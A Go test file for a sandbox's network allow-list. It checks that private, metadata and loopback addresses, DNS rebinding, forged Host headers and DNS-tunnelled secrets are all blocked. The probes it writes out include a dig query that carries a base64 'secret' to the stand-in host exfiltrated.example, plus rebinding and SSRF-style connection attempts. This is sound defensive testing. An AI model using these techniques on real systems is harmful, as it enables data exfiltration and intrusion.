package clients

import (
	"net"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/cloche-dev/cloche/internal/testenv"
	"github.com/cloche-dev/cloche/internal/testnet"
)

// TestAddressesBehindNames: a rule for a name opens no private address, and
// neither the machine's own nor its loopback, whatever the name says. N3
func TestAddressesBehindNames(t *testing.T) {
	own := listenOnMachine(t)
	eachBackend(t, func(t *testing.T, s *sandbox) {
		for name, port := range map[string]string{"private.example": "7", "metadata.example": "7", "mapped.example": "7",
			"loopback.example": own, "machine.example": own} {
			t.Run(name, func(t *testing.T) {
				before := seen(t)
				o := s.with("--net", "user", "--allow", name).goProgram(t, "tcp", name+":"+port, "echo")
				if o.status == 0 {
					t.Errorf("%s was reached: %s", name, o.stdout)
				}
				if !o.refused(name) {
					t.Errorf("the refusal is not on record: %+v\n%s", o.report.Result.Denied, o.stderr)
				}
				if after := seen(t); len(after.Accepted) != len(before.Accepted) {
					t.Errorf("a connection arrived: %v", after.Accepted[len(before.Accepted):])
				}
			})
		}
	})
}

// listenOnMachine has a server at every address of the machine, loopback
// included, which fails the test if anybody comes. It returns the port.
func listenOnMachine(t *testing.T) string {
	t.Helper()
	testnet.Need(t)
	l, err := net.Listen("tcp", ":0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			t.Errorf("somebody came to %s", c.LocalAddr())
			c.Close()
		}
	}()
	_, port, _ := net.SplitHostPort(l.Addr().String())
	return port
}

// TestAddressesWithoutNames: "*" is every public host; what is private needs a
// rule for the address. N3
func TestAddressesWithoutNames(t *testing.T) {
	eachBackend(t, func(t *testing.T, s *sandbox) {
		for _, c := range []struct {
			allow, address string
			reached        bool
		}{
			{"*", testnet.Nameless, true},
			{"*", testnet.Private, false},
			{"*", testnet.Metadata, false},
			{"*", testnet.MachineV4, false},
			{"*", "127.0.0.1", false},
			{"*", "198.18.0.1", false},
			{"10.0.0.0/8", testnet.Private, true},
			{"10.0.0.0/8", testnet.Nameless, false},
			{"good.example", testnet.Nameless, false},
		} {
			t.Run(c.allow+" "+c.address, func(t *testing.T) {
				o := s.with("--net", "user", "--allow", c.allow).goProgram(t, "tcp", net.JoinHostPort(c.address, "7"), "echo")
				if (o.status == 0) != c.reached {
					t.Errorf("status %d: %s%s", o.status, o.stdout, o.stderr)
				}
			})
		}
	})
}

// TestPrivateNames: a name leads to a private address if its rule says so, and neither
// does another one, nor the address alone, nor does it lead to the host or to metadata. N3
func TestPrivateNames(t *testing.T) {
	eachBackend(t, func(t *testing.T, s *sandbox) {
		for _, c := range []struct {
			allow, host string
			reached     bool
		}{
			{"private.example:7", "private.example", false},
			{"private://private.example:7", "private.example", true},
			{"private://private.example:7", testnet.Private, false},
			{"private://private.example:8", "private.example", false},
			{"private://metadata.example", "metadata.example", false},
			{"private://machine.example", "machine.example", false},
			{"private://loopback.example", "loopback.example", false},
		} {
			t.Run(c.allow+" "+c.host, func(t *testing.T) {
				o := s.with("--net", "user", "--allow", c.allow).goProgram(t, "tcp", net.JoinHostPort(c.host, "7"), "echo")
				if (o.status == 0) != c.reached {
					t.Errorf("status %d: %s%s", o.status, o.stdout, o.stderr)
				}
				if hint := "allow it with --allow private://private.example"; c.allow == "private.example:7" && !strings.Contains(o.stderr, hint) {
					t.Errorf("no hint: %s", o.stderr)
				}
			})
		}
	})
}

// TestEmptyListAllowsNothing: mode user without a rule reaches nothing. N3
func TestEmptyListAllowsNothing(t *testing.T) {
	eachBackend(t, func(t *testing.T, s *sandbox) {
		before := seen(t)
		for _, args := range [][]string{{"tcp", "good.example:7", "x"}, {"udp", testnet.Nameless + ":7", "x"}, {"lookup", "good.example"}} {
			if o := s.with("--net", "user").goProgram(t, args...); args[0] != "lookup" && o.status == 0 {
				t.Errorf("%v went well: %s", args, o.stdout)
			}
		}
		after := seen(t)
		if len(after.Questions) != len(before.Questions) || len(after.Accepted) != len(before.Accepted) {
			t.Errorf("something got out: %v %v", after.Questions[len(before.Questions):], after.Accepted[len(before.Accepted):])
		}
	})
}

// TestRebinding: a name that was public when it was asked for and is private
// when it is asked for again opens nothing private. N3
func TestRebinding(t *testing.T) {
	eachBackend(t, func(t *testing.T, s *sandbox) {
		script := `import socket, time
for i in range(6):
    try:
        infos = socket.getaddrinfo("rebind.example", 7, type=socket.SOCK_STREAM)
    except OSError as e:
        print("lookup", e); continue
    for info in infos:
        print(info[4][0])
        s = socket.socket(info[0], socket.SOCK_STREAM); s.settimeout(10)
        try:
            s.connect(info[4]); s.sendall(b"x"); print("reached", info[4][0], s.recv(1))
        except OSError as e:
            print("connect", e)
for address in ("10.1.2.3", "::ffff:10.1.2.3"):
    s = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET); s.settimeout(10)
    try:
        s.connect((address, 7)); print("reached", address)
    except OSError as e:
        print("connect", e)
`
		o := s.with("--net", "user", "--allow", "rebind.example", "--allow", "mixed.example").run(t, "/usr/bin/python3", "-c", script)
		if o.status != 0 {
			t.Fatalf("status %d: %s", o.status, o.stderr)
		}
		if strings.Contains(o.stdout, "reached 10.") || strings.Contains(o.stdout, "reached ::ffff:10.") {
			t.Errorf("a private address was reached:\n%s", o.stdout)
		}
	})
}

// TestServerNames: a connection that was allowed for one name is not used for
// another at the same address. N3
func TestServerNames(t *testing.T) {
	testenv.Need(t, "curl")
	eachBackend(t, func(t *testing.T, s *sandbox) {
		s = s.with("--net", "user", "--allow", "good.example", "--deny", "shared.example")
		before := seen(t)
		for _, args := range [][]string{
			{"curl", "-sS", "--max-time", "120", "--fail", "--resolve", "shared.example:443:93.184.216.34", "--cacert", testnet.AuthorityFile(), "https://shared.example/"},
			{"curl", "-sS", "--max-time", "120", "--fail", "-H", "Host: shared.example", "http://good.example/"},
			{"curl", "-sS", "--max-time", "120", "--fail", "-H", "Host: other.example", "http://good.example/"},
		} {
			// The name has to be known before the address is of any use.
			script := `curl -sS --fail --max-time 120 http://good.example/first >/dev/null && exec "$@"`
			o := s.run(t, append([]string{"sh", "-c", script, "sh"}, args...)...)
			if o.status == 0 {
				t.Errorf("%q went well: %s", args, o.stdout)
			}
		}
		after := seen(t)
		if got := after.Requests[len(before.Requests):]; slices.ContainsFunc(got, func(r string) bool { return !strings.HasPrefix(r, "GET good.example/first") }) {
			t.Errorf("requests arrived: %v", got)
		}
	})
}

// TestRequests: methods and paths of plain HTTP are judged one by one, on one
// connection too, and the refusal is explained. N3
func TestRequests(t *testing.T) {
	testenv.Need(t, "curl")
	eachBackend(t, func(t *testing.T, s *sandbox) {
		s = s.with("--net", "user", "--allow", "http://good.example/v1/**")
		o := s.run(t, "curl", "-sS", "--max-time", "120", "http://good.example/v1/a", "http://good.example/v2/b", "http://good.example/v1/../v2/c")
		if !strings.Contains(o.stdout, "GET good.example/v1/a") {
			t.Errorf("the allowed request did not arrive:\n%s%s", o.stdout, o.stderr)
		}
		if strings.Contains(o.stdout, "GET good.example/v2") {
			t.Errorf("a refused request arrived:\n%s", o.stdout)
		}
		for _, word := range []string{`"host":"good.example"`, `"grant":`, `"rule":`} {
			if !strings.Contains(o.stdout, word) {
				t.Errorf("the refusal has no %s:\n%s", word, o.stdout)
			}
		}
	})
}

// TestRefusalsAreFast: a refused host does not look like an outage. N3
func TestRefusalsAreFast(t *testing.T) {
	eachBackend(t, func(t *testing.T, s *sandbox) {
		s = s.with("--net", "user", "--allow", "good.example")
		for _, args := range [][]string{{"tcp", "other.example:22", "x"}, {"tcp", testnet.Nameless + ":22", "x"}, {"udp", "other.example:9", "x"}} {
			start := time.Now()
			o := s.goProgram(t, args...)
			// The client itself would wait twice as long.
			if o.status == 0 || time.Since(start) > clientTime/2 {
				t.Errorf("%v: status %d after %v: %s", args, o.status, time.Since(start), o.stderr)
			}
		}
	})
}

// TestDig: the resolver answers real queries, says why it refuses, and asks
// nobody about a refused name. N3
func TestDig(t *testing.T) {
	testenv.Need(t, "dig")
	eachBackend(t, func(t *testing.T, s *sandbox) {
		s = s.with("--net", "user", "--allow", "good.example")
		for _, c := range []struct{ args, want string }{
			{"+short good.example A", "93.184.216.34"},
			{"+short good.example AAAA", "2606:2800:220:1::34"},
			{"+tcp +short good.example A", "93.184.216.34"},
			{"good.example TXT", "text of good.example"},
			{"+short gOOd.eXample. A", "93.184.216.34"},
			{"other.example A", "EDE: 15 (Blocked)"},
			{"other.example MX", "REFUSED"},
		} {
			o := s.run(t, append([]string{"dig", "+time=120", "+tries=1"}, strings.Fields(c.args)...)...)
			if !strings.Contains(o.stdout, c.want) {
				t.Errorf("dig %s: no %q in:\n%s%s", c.args, c.want, o.stdout, o.stderr)
			}
			if refused := strings.HasPrefix(c.args, "other."); o.refused("other.example") != refused {
				t.Errorf("dig %s: on record as refused: %v", c.args, !refused)
			}
		}
		secret := "c2VjcmV0.exfiltrated.example"
		s.run(t, "dig", "+time=5", "+tries=1", secret)
		s.run(t, "dig", "+time=2", "+tries=1", "@"+testnet.NameServer, secret)
		if slices.Contains(seen(t).Questions, strings.ToLower(secret)) {
			t.Error("a question got out")
		}
	})
}

// TestPing: echo requests go to hosts that a rule allows, and to no others. L5
func TestPing(t *testing.T) {
	testenv.Need(t, "ping")
	eachBackend(t, func(t *testing.T, s *sandbox) {
		s = s.with("--net", "user", "--allow", "good.example", "--allow", "six.example")
		for _, c := range []struct {
			host    string
			reached bool
		}{{"good.example", true}, {"six.example", true}, {testnet.Nameless, false}, {testnet.Metadata, false}} {
			o := s.run(t, "ping", "-c", "1", "-W", "5", c.host)
			if (o.status == 0) != c.reached {
				t.Errorf("ping %s: status %d\n%s%s", c.host, o.status, o.stdout, o.stderr)
			}
		}
	})
}
